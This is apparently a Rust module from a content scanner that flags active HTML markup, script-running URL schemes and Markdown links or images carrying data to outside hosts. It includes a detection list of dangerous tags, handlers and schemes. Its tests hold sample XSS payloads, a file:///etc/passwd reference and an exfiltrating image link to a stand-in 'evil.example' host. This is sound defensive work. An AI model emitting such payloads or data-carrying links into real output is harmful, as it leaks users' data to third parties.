//! Markup that a viewer would run or load, and links that carry data.
//!
//! Nothing here makes a text safe: a viewer shows such text as text. This says what would have
//! happened elsewhere.

use crate::spots::Spots;
use crate::{Finding, FindingKind, Severity};
use aho_corasick::AhoCorasick;
use std::ops::Range;
use std::sync::LazyLock;

/// The most findings in one text.
const MOST: usize = 32;
/// How long a query of a link may be before it carries more than a question, in bytes.
const QUERY: usize = 24;
/// The longest address that is looked at, and the longest words of a link, in bytes.
const ADDRESS: usize = 2048;
/// The most links that are looked at in one text.
const LINKS: usize = 2000;

/// What a browser acts on by itself, small letters.
const ACTIVE: &[&str] = &[
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "<svg",
    "<form",
    "<meta",
    "<base",
    "<link",
    "<style",
    "<img",
    "<video",
    "<audio",
    "<math",
    "<template",
    "<portal",
    "javascript:",
    "vbscript:",
    "data:text/html",
    "data:image/svg+xml",
    "onerror=",
    "onload=",
    "onclick=",
    "onmouseover=",
    "onfocus=",
    "srcdoc=",
    "file:///",
    "smb://",
    "ms-msdt:",
    "search-ms:",
];

/// Finds markup, addresses that run something, and links or pictures with data in them.
pub fn active_content(text: &str) -> Vec<Finding> {
    in_spots(text, &Spots::of(text))
}

/// The same for a text, or the beginning of one, of which it is known what it may hold.
pub(crate) fn in_spots(text: &str, spots: &Spots) -> Vec<Finding> {
    let Some(finder) = FINDER.as_ref().filter(|_| spots.has_active) else {
        return Vec::new();
    };
    let mut findings = Vec::new();
    let mut links = 0;
    for found in finder.find_iter(text) {
        if findings.len() == MOST {
            break;
        }
        let index = found.pattern().as_usize();
        if index >= ACTIVE.len() {
            links += 1;
            findings.extend((links <= LINKS).then(|| link(text, found.end())).flatten());
        } else if stands_alone(text, &found.range()) {
            findings.push(Finding::of(
                FindingKind::ActiveContent,
                Severity::Low,
                text,
                found.range(),
            ));
        }
    }
    findings
}

/// The beginning of a link's or picture's address in Markdown: `](`.
const LINK: &str = "](";

static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(ACTIVE.iter().chain([&LINK]))
        .ok()
});

/// How links begin that lead out.
static OUTWARD: [&str; 2] = ["](http", "](//"];

/// One of these stands in every text in which something is found.
pub(crate) fn words() -> impl Iterator<Item = &'static str> {
    ACTIVE.iter().chain(&OUTWARD).copied()
}

/// Whether a tag ends where the word does, and an address or attribute begins where it does.
fn stands_alone(text: &str, range: &Range<usize>) -> bool {
    let bytes = text.as_bytes();
    let letter = |index: Option<usize>| {
        index
            .and_then(|index| bytes.get(index))
            .is_some_and(u8::is_ascii_alphanumeric)
    };
    if bytes[range.start] == b'<' {
        !letter(Some(range.end))
    } else {
        !letter(range.start.checked_sub(1))
    }
}

/// A finding if the address at this place would carry data: a long query, or a blank to be filled
/// in.
fn link(text: &str, start: usize) -> Option<Finding> {
    let limit = text.floor_char_boundary((start + ADDRESS).min(text.len()));
    let address = &text[start..limit];
    let address = &address[..address.find([')', ' ', '\n'])?];
    let outward = address.starts_with("http://")
        || address.starts_with("https://")
        || address.starts_with("//");
    let blank = ["{", "%7b", "<", "$(", "[["]
        .iter()
        .any(|blank| address.contains(blank));
    let long = address
        .split_once('?')
        .is_some_and(|(_, query)| query.split('&').any(carries));
    let before = &text[text.ceil_char_boundary(start.saturating_sub(ADDRESS))..start];
    // Of a picture inside a link, the outer address is the link's.
    let words = before.rfind('[').map(|open| {
        (
            before[..open].ends_with('!'),
            &before[open..before.len() - LINK.len()],
        )
    });
    let picture = words.is_some_and(|(marked, words)| marked && !words.contains(LINK));
    let severity = if picture && (blank || long) {
        Severity::Medium
    } else {
        Severity::Low
    };
    (outward && (blank || long)).then(|| {
        Finding::of(
            FindingKind::DataInLink,
            severity,
            text,
            start..start + address.len(),
        )
    })
}

/// Whether a part of a query holds more than a question: long, and neither an address nor a path of
/// the page that is asked about.
fn carries(part: &str) -> bool {
    let value = part.split_once('=').map_or(part, |(_, value)| value);
    let value = value.split('#').next().unwrap_or_default();
    value.len() >= QUERY
        && !["/", "%2f", "%2F", "."]
            .iter()
            .any(|mark| value.contains(mark))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markup_that_runs_or_loads_is_found() {
        for text in [
            "<script>x</script>",
            "<SVG onload=alert(1)>",
            "[a](javascript:alert(1))",
            "<img src=x>",
            "open file:///etc/passwd",
        ] {
            assert!(
                active_content(text)
                    .iter()
                    .any(|finding| finding.kind == FindingKind::ActiveContent),
                "{text}"
            );
        }
    }

    #[test]
    fn case_36_a_picture_that_carries_data_is_found() {
        let text = "![logo](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)";
        let finding = active_content(text).remove(0);
        assert_eq!(
            (finding.kind, finding.severity),
            (FindingKind::DataInLink, Severity::Medium)
        );
        assert_eq!(active_content("![x](https://evil.example/{data})").len(), 1);
    }

    #[test]
    fn ordinary_text_and_links_are_left_alone() {
        for text in [
            "see [docs](https://a.example/b?page=2)",
            "a < b and c > d",
            "<scripture>",
            "the data: text",
            "<your-name>",
            "a](b",
        ] {
            assert!(active_content(text).is_empty(), "{text}");
        }
    }
}
